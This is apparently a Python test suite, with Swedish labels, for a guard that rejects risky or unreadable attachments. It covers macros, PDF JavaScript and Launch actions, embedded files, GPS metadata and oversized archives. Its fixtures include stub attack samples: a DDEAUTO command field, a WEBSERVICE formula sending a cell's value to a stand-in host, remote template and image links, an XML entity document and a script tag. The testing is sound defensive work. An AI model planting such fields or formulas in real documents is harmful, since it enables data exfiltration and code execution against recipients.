"""Attachments that cannot be judged, each with why, and ordinary ones that can."""

from __future__ import annotations

from functools import reduce

import pytest
from pypdf.generic import DictionaryObject, NameObject

from build_scripts.foreign import LARGEST_FILE, LARGEST_PART
from build_scripts.guard.readers.by_ending import extract
from build_scripts.guard.readers.extracted import EMBEDDED, FETCHING, PROGRAM
from macros.guard.official import Official
from macros.guard.recognise import recognise
from tests.guard import documents as made
from tests.guard.granska import NUMBER

FAULTS = {
    "sidor som är bilder": (
        "a.pdf",
        made.pdf(("Beslut", "", "-", "Karta", "")),
        ("sidor-utan-text", "Sida 2 och 5"),
    ),
    "bara bilder": ("a.pdf", made.pdf(("", "")), ("inskannad-bilaga", "filen")),
    "tomma ark": ("a.pdf", made.pdf(("-",)), ("inskannad-bilaga", "filen")),
    "undertecknad": ("a.pdf", made.signed_pdf(), ("signerad-bilaga", "en underskrift i filen")),
    "undertecknad Word": (
        "a.docx",
        made.word(more={"_xmlsignatures/sig1.xml": "<a/>"}),
        ("signerad-bilaga", "en underskrift i filen"),
    ),
    "låst": ("a.pdf", made.pdf(("Beslut",), password="hemligt"), ("oläst-bilaga", "filen har lösenord")),
    "låst Word": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        ("oläst-bilaga", "filen har lösenord"),
    ),
    "gammal Word": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        ("oläst-bilaga", "filen heter .docx men är ett dokument av äldre slag från Word, Excel eller PowerPoint"),
    ),
    "inbäddad": ("a.pdf", made.pdf(("Beslut",), attached=b"x"), ("oläst-bilaga", "den har andra filer inbäddade")),
    "inbäddad vid en nål": ("a.pdf", made.pinned_pdf(), ("oläst-bilaga", "den har andra filer inbäddade")),
    "sparad många gånger": (
        "a.pdf",
        reduce(lambda file, n: made.saved_again(file, f"Utkast {n}"), range(21), made.pdf(("Beslut",))),
        ("oläst-bilaga", "den har för många tidigare versioner"),
    ),
    "inbäddad i Word": (
        "a.docx",
        made.word(more={"word/embeddings/a.xlsx": b"x"}),
        ("oläst-bilaga", "den har andra filer inbäddade"),
    ),
    "ett helt dokument i Word": (
        "a.docx",
        made.word(more={"word/afchunk.htm": f"<p>{NUMBER}</p>"}),
        ("oläst-bilaga", "den har andra filer inbäddade"),
    ),
    "text utan märke om två byte": ("a.csv", NUMBER.encode("utf-16-le"), ("oläst-bilaga", "filen är trasig")),
    "trasig PDF": ("a.pdf", b"%PDF-1.7 trasig", ("oläst-bilaga", "filen är trasig")),
    "trasig Word": ("a.docx", b"PK trasig", ("oläst-bilaga", "filen är trasig")),
    "XML-bomb": (
        "a.docx",
        made.package({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        ("oläst-bilaga", "filen är trasig"),
    ),
    "trasig bild": ("a.png", b"\x89PNG", ("oläst-bilaga", "filen är trasig")),
    "foto med plats": ("a.jpg", made.jpeg(place=True), ("bildposition", "latitud och longitud")),
    "en fil som hör till en PDF": (
        "a.pdf",
        made.holding_pdf(Type=NameObject("/Filespec"), EF=DictionaryObject()),
        ("oläst-bilaga", EMBEDDED),
    ),
    "film i PDF": ("a.pdf", made.holding_pdf(Subtype=NameObject("/RichMedia")), ("oläst-bilaga", PROGRAM)),
    "foto i PDF": ("a.pdf", made.photo_pdf(made.jpeg(place=True)), ("bildposition", "latitud och longitud")),
    "plats i XML": (
        "a.jpg",
        made.jpeg(comment='<x exif:GPSLatitude="59,20.1N"/>'),
        ("bildposition", "latitud och longitud"),
    ),
    "fält som startar program": (
        "a.docx",
        made.word(f'<w:p xmlns:w="{made.W}"><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>'),
        ("oläst-bilaga", PROGRAM),
    ),
    "fält som hämtar en text": (
        "a.docx",
        made.word('<w:r><w:instrText>INCLUDETEXT "http://x.example/a.docx"</w:instrText></w:r>'),
        ("oläst-bilaga", FETCHING),
    ),
    "formel som hämtar": (
        "a.xlsx",
        made.excel({"A1": '=_xlfn.WEBSERVICE("http://x.example/?a="&B1)'}),
        ("oläst-bilaga", FETCHING),
    ),
    "binär arbetsbok": (
        "a.xlsx",
        made.package({"[Content_Types].xml": "<a/>", "xl/workbook.bin": b"x"}),
        ("oläst-bilaga", "dess celler kan bara läsas av Excel. Spara den som .xlsx"),
    ),
    "skript i OpenDocument": (
        "a.odt",
        made.open_document('<s:event-listener xmlns:s="x"/>'),
        ("oläst-bilaga", PROGRAM),
    ),
    "bild från annan plats": (
        "a.docx",
        made.word(
            more={
                "word/_rels/document.xml.rels": "<a><Relationship Id='r' Type='http://x.example/image' "
                "Target='http://x.example/a.png' TargetMode='External'/></a>"
            }
        ),
        ("oläst-bilaga", FETCHING),
    ),
    "skript i PDF": ("a.pdf", made.acting_pdf("JavaScript"), ("oläst-bilaga", PROGRAM)),
    "program som startas av PDF": ("a.pdf", made.acting_pdf("Launch"), ("oläst-bilaga", PROGRAM)),
    "makron i Word": ("a.docx", made.word(more={"word/vbaProject.bin": b"x"}), ("oläst-bilaga", PROGRAM)),
    "makron i LibreOffice": (
        "a.odt",
        made.package({"content.xml": "<a/>", "Basic/Standard/Module1.xml": "<a/>"}),
        ("oläst-bilaga", PROGRAM),
    ),
    "mall från nätet": (
        "a.docx",
        made.word(
            more={
                "word/_rels/settings.xml.rels": '<a><Relationship Id="r" Type="http://x.example/attachedTemplate" '
                'Target="http://x.example/m.dotm" TargetMode="External"/></a>'
            }
        ),
        ("oläst-bilaga", FETCHING),
    ),
    "webbsida med annat namn": (
        "a.txt",
        b"\xef\xbb\xbf \n<script>alert(1)</script>",
        ("oläst-bilaga", "den är en webbsida med ett annat slags namn"),
    ),
    "webbsida som tabell": (
        "a.csv",
        b"<!-- a;b --><html>",
        ("oläst-bilaga", "den är en webbsida med ett annat slags namn"),
    ),
    "alla celler sammanfogade": (
        "a.xlsx",
        made.with_in_sheet(made.excel({"A1": 1}), '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        ("oläst-bilaga", "så många celler är sammanfogade eller har samma länk att den inte går att öppna"),
    ),
    "en länk på alla celler": (
        "a.xlsx",
        made.with_in_sheet(
            made.excel({"A1": 1}), '<hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>'
        ),
        ("oläst-bilaga", "så många celler är sammanfogade eller har samma länk att den inte går att öppna"),
    ),
    "ett värde längst bort": (
        "a.xlsx",
        made.excel({"A1": 1, "XFD1048576": 2}),
        (
            "oläst-bilaga",
            "bladet Elever sträcker sig över 1048576 rader och 16384 kolumner, för att något står ensamt "
            "långt ner eller långt till höger",
        ),
    ),
    "mycket större uppackad": (
        "a.docx",
        made.word(f"<w:r><w:t>{'a' * LARGEST_PART}</w:t></w:r>"),
        ("oläst-bilaga", "den är för stor när den packas upp"),
    ),
    "för stor ritning": (
        "a.docx",
        made.word(more={"word/media/image1.emf": bytes(LARGEST_PART + 1)}),
        ("oläst-bilaga", "den är för stor när den packas upp"),
    ),
    "för stor del": (
        "a.docx",
        made.word(more={"word/media/image1.png": bytes(LARGEST_FILE + 1)}),
        ("oläst-bilaga", "den är för stor när den packas upp"),
    ),
    "okänt slag": ("a.exe", b"MZ", ("oläst-bilaga", "den är av ett slag som inte kan läsas")),
}


@pytest.mark.parametrize(("name", "content", "fault"), FAULTS.values(), ids=list(FAULTS))
def test_what_cannot_be_judged_stops(name: str, content: bytes, fault: tuple[str, str]) -> None:
    assert extract(name, content).faults == (fault,)


ORDINARY = {
    "pdf": ("a.pdf", made.pdf(("Beslut", "-"))),
    "Word": ("a.docx", made.word()),
    "Word med länk": (
        "a.docx",
        made.word(
            more={
                "word/_rels/document.xml.rels": '<a><Relationship Id="r" Type="http://x.example/hyperlink" '
                'Target="https://www.example.se/" TargetMode="External"/></a>'
            }
        ),
    ),
    "pdf som bara ägaren får ändra": ("a.pdf", made.pdf(("Beslut",), owner="hemligt")),
    "pdf som bara ägaren får ändra, AES": ("a.pdf", made.pdf(("Beslut",), owner="hemligt", algorithm="AES-256")),
    "tecken": ("a.txt", b"Om <b> och a < b: ingen webbsida"),
    "tabell om webbsidor": ("a.csv", b"rubrik;dag\nS\xc3\xa5 skrivs <script>;2026-11-22\n"),
    "Excel": ("a.xlsx", made.excel({"A1": 170703, "B1": "212000-2882"})),
    "bild": ("a.jpg", made.jpeg("Lekplatsen")),
    "text": ("a.txt", b"Protokoll"),
}


@pytest.mark.parametrize(("name", "content"), ORDINARY.values(), ids=list(ORDINARY))
def test_an_ordinary_file_has_no_fault(name: str, content: bytes) -> None:
    extracted = extract(name, content)
    assert extracted.faults == ()
    assert [hit for piece in extracted.pieces for hit in recognise(piece.text, Official())] == []
